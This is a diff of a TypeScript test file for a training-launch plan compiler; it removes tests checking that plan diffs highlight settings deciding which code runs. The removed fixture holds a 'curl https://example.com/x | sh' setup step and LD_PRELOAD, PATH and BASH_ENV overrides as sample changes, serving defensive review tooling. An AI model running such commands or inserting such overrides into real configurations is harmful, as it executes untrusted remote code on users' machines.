@@ -7,9 +7,6 @@ import { parsePlan } from '../../src/compiler/plan/parse-plan.ts';
 import { renderPlan } from '../../src/compiler/plan/render-plan.ts';
 import { MAX_SOURCE_BYTES } from '../../src/compiler/syntax/read-source.ts';
 import { CODE_VARIABLES } from '../../src/compiler/values/code-variables.ts';
-import { diffPlans } from '../../src/review/diff/diff-plans.ts';
-import { renderDiffMarkdown } from '../../src/review/diff/render-markdown.ts';
-import { renderDiffText } from '../../src/review/diff/render-text.ts';
 import { runRankplan } from '../command/run-rankplan.ts';
 import { makeFolder } from '../scratch.ts';
 
@@ -152,53 +149,6 @@ describe('the program that reaches other hosts runs on the machine where one sit
   });
 });
 
-describe('a diff', () => {
-  const plan = (text: string) => {
-    const { plan: compiled } = compileText(text);
-    if (compiled === null) throw new Error('the topology has errors');
-    return compiled;
-  };
-  const old = plan(write('  env: { NCCL_DEBUG: INFO }\n'));
-  const next = plan(
-    write(
-      `  setup: ["curl https://example.com/x | sh"]
-  wrap: [numactl]
-  workdir: /srv
-  env: { NCCL_DEBUG: WARN, LD_PRELOAD: /x.so, PATH: /x, A1: a, A2: a, A3: a }\n`,
-      'cpuRanks: 4, env: { BASH_ENV: /x }',
-    ).replace('train.py', 'other.py'),
-  );
-  const diff = diffPlans(old, next);
-
-  test('has what decides which code runs above all else, whole and open', () => {
-    const wanted = ['launch.command', 'launch.setup', 'launch.wrap', 'launch.workdir'];
-    const variables = ['launch.env.LD_PRELOAD', 'launch.env.PATH', 'env.BASH_ENV'];
-    for (const text of [renderDiffText(diff, ['a', 'b']), renderDiffMarkdown(diff, ['a', 'b'])]) {
-      const [head = '', section = '', ...rest] = text.split(/\n\n(?=\*\*|[a-z][a-zA-Z ]+\n {2})/);
-      expect(head).toContain('other code runs: ');
-      expect(section).toMatch(/^(\*\*which code runs:\*\*|which code runs)\n/);
-      expect(section).not.toContain('<details>');
-      for (const path of [...wanted, ...variables]) expect(section).toContain(path);
-      expect(section).not.toContain('NCCL_DEBUG');
-      expect(rest.join()).toContain('NCCL_DEBUG');
-      for (const path of [...wanted, ...variables]) expect(rest.join()).not.toContain(path);
-    }
-  });
-
-  test('says in JSON what each setting has to do with it', () => {
-    const told = diff.settings.filter(({ runs }) => runs !== null).map(({ path }) => path.join('.'));
-    expect(told.sort()).toEqual([
-      'env.BASH_ENV',
-      'launch.command',
-      'launch.env.LD_PRELOAD',
-      'launch.env.PATH',
-      'launch.setup',
-      'launch.workdir',
-      'launch.wrap',
-    ]);
-  });
-});
-
 describe('equal shares', () => {
   const shares = (globalBatch: number, multipleOf: number) =>
     found(
@@ -225,17 +175,4 @@ describe('equal shares', () => {
     expect(finding?.code).toBe('RP3036');
     expect(finding?.help).toContain(`\`globalBatch: ${largest - (largest % 4)}\`,`);
   });
-});
-
-test('a diff names what a changed container means for the code', () => {
-  const planWith = (image: string) => {
-    const slurm = `slurm: { container: { runtime: pyxis, image: ${image} } }\n`;
-    const { plan } = compileText(`${write('')}${slurm}`);
-    if (plan === null) throw new Error('the topology has errors');
-    return plan;
-  };
-  const { settings } = diffPlans(planWith('a'), planWith('b'));
-  expect(settings).toMatchObject([
-    { path: ['slurm', 'container', 'image'], runs: 'is what the ranks run in' },
-  ]);
 });
